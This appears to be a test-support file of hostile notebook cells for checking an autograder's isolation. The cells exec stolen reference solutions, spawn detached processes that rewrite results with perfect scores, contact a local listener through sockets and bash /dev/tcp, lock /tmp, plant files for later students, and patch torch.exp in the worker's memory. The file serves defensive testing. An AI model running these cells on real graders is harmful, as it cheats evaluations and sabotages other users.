"""Hostile cells against the grader's isolation, as a student would write them (tests/test_isolation.py).

Each attack is a cell appended to a notebook; the placeholders ({repo}, {out}, {tcp}, {udp}) give
the attacker the grader's real paths and the test's listening ports, i.e. more than a student
would know. An attack on an untouched notebook must still score zero; one that targets the next
student is followed by a witness (a solved notebook that loses points if it sees any trace).
"""
from __future__ import annotations

MARKER = "autograder-detached-marker"
PLANTED = "planted-by-a-student"

# Execute the reference solutions (or the oracle) found on disk: full marks if they are readable.
READ_MASTERS = '''
import glob, json, os
def _steal():
    stolen = []
    for root in ({repo!r}, "/autograder/source", "/opt/grader", os.path.expanduser("~")):
        for path in sorted(glob.glob(os.path.join(root, "solutions", "*", "exercises_torch.ipynb"))):
            try:
                with open(path) as f:
                    cells = json.load(f)["cells"]
            except OSError:
                continue
            for cell in cells:
                source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                if cell["cell_type"] == "code" and "check(" not in source:
                    try:
                        exec(source, globals())
                    except Exception:
                        pass
            stolen.append(path)
        for path in glob.glob(os.path.join(root, "autograder", "*", "*.py")):
            try:
                open(path).read()
                stolen.append(path)
            except OSError:
                pass
    return stolen
_stolen = _steal()
'''

# A process that outlives the submission (detached, and double-forked without exec) and keeps
# rewriting every results.json it can reach with a perfect score.
DETACHED_REWRITER = '''
import os, subprocess, sys
_loop = """
import glob, json, time
fake = {{"score": 100, "tests": [], "output": "rewritten by a student"}}
end = time.time() + 120
while time.time() < end:
    for pattern in ({out!r} + "/*/results.json", {out!r} + "/*/result.json", {out!r} + "/grades.csv",
                    "/autograder/results/results.json"):
        for path in glob.glob(pattern):
            try:
                with open(path, "w") as f:
                    json.dump(fake, f)
            except OSError:
                pass
    time.sleep(0.1)
"""
subprocess.Popen([sys.executable, "-c", _loop, "{marker}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["sh", "-c", "setsid sleep 600 &"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        exec(_loop)
    os._exit(0)
'''.replace("{marker}", MARKER)

# TCP and UDP to the test's listener, directly, from a child process, and through bash's /dev/tcp.
NETWORK = '''
import socket, subprocess, sys
def _contact():
    for kind, port in ((socket.SOCK_STREAM, {tcp}), (socket.SOCK_DGRAM, {udp})):
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::ffff:127.0.0.1")):
            try:
                s = socket.socket(family, kind)
                s.settimeout(2)
                s.connect((host, port))
                s.send(b"leak")
            except OSError:
                pass
    child = "import socket; socket.create_connection(('127.0.0.1', {tcp}), 2).sendall(b'leak')"
    for command in ([sys.executable, "-c", child], ["bash", "-c", "echo leak > /dev/tcp/127.0.0.1/{tcp}"]):
        try:
            subprocess.run(command, timeout=10, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            pass
_contact()
'''

# Close the shared temporary folders: in the old grader every later submission failed to start.
CHMOD_TMP = '''
import os, tempfile
for _path in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~")):
    try:
        os.chmod(_path, 0)
    except OSError:
        pass
'''

# Leave files where the next submission would look.
PLANT_TMP = '''
import os, tempfile
for _folder in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"), os.getcwd()):
    try:
        with open(os.path.join(_folder, "{planted}"), "w") as f:
            f.write("x")
    except OSError:
        pass
'''.replace("{planted}", PLANTED)

# Swap torch.exp for torch.log in the worker's memory (children are forked from it, so the
# objects have the same addresses there): every later submission's softmax goes wrong.
WORKER_MEMORY = '''
import ctypes, os, sys, torch
def _sabotage():
    worker, size = os.getppid(), sys.getsizeof(torch.exp)
    data = ctypes.string_at(id(torch.log), size)
    try:
        with open(f"/proc/{worker}/mem", "r+b", buffering=0) as mem:
            mem.seek(id(torch.exp))
            mem.write(data)
    except OSError:
        pass
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(data, size)
    local, remote = iovec(ctypes.addressof(buf), size), iovec(id(torch.exp), size)
    ctypes.CDLL(None).process_vm_writev(worker, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
_sabotage()
'''

# Appended to a solved notebook: it loses two exercises if anything of an earlier submission shows.
WITNESS = '''
import glob, os, tempfile
_seen = [p for folder in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"), os.getcwd())
         for p in glob.glob(os.path.join(folder, "{planted}"))]
_closed = [p for p in ("/tmp", tempfile.gettempdir()) if not os.access(p, os.W_OK | os.X_OK)]
if _seen or _closed:
    del masked_softmax, causal_mask
'''.replace("{planted}", PLANTED)

ATTACKS = {
    "read_masters": READ_MASTERS,
    "detached_rewriter": DETACHED_REWRITER,
    "network": NETWORK,
    "chmod_tmp": CHMOD_TMP,
    "plant_tmp": PLANT_TMP,
    "worker_memory": WORKER_MEMORY,
}


def attack_source(name: str, **where) -> str:
    return ATTACKS[name].replace("{repo!r}", repr(where.get("repo", ""))) \
        .replace("{out!r}", repr(where.get("out", ""))) \
        .replace("{tcp}", str(where.get("tcp", 9))).replace("{udp}", str(where.get("udp", 9))) \
        .replace("{{", "{").replace("}}", "}")
